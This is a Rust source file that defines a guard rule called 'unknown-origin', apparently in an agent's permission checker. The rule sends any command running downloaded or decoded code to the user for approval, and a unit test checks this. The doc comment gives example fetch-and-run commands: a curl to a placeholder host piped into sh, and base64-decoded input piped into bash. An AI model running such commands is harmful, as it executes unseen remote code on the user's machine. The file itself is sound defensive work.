//! Code that was downloaded or decoded, and then run, is asked about.
//!
//! Nobody has seen it: neither the user nor this call shows what it does.
//! Example: `curl https://x.example/i.sh | sh`, `base64 -d <<< ... | bash`.

use crate::decide::case::Case;
use crate::decide::rule::{Opinions, Rule};
use crate::model::{Marks, Stage, Verdict};

pub(crate) const RULE: Rule = Rule {
    id: "unknown-origin",
    stage: Stage::Guard,
    summary: "runs code from nowhere the user named",
    judge,
};

fn judge(case: &Case<'_>, opinions: &mut Opinions<'_>) {
    for (place, _) in case.effects() {
        if case.marks(place).contains(Marks::UNKNOWN_ORIGIN) {
            opinions.about(
                place,
                Verdict::AskUser,
                "it runs code of unknown origin: downloaded or decoded, and not shown by the call",
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decide::testing::{World, effect};
    use crate::model::RiskClass;

    #[test]
    fn a_marked_effect_is_stopped_whatever_the_policy_says() {
        let plain = effect("x.y", RiskClass::Execution);
        let marked = plain.clone().marked(Marks::UNKNOWN_ORIGIN);
        let world = World::full_trust();
        world.expect(&[plain], Verdict::Allow, "task-grant");
        world.expect(&[marked], Verdict::AskUser, RULE.id);
    }
}
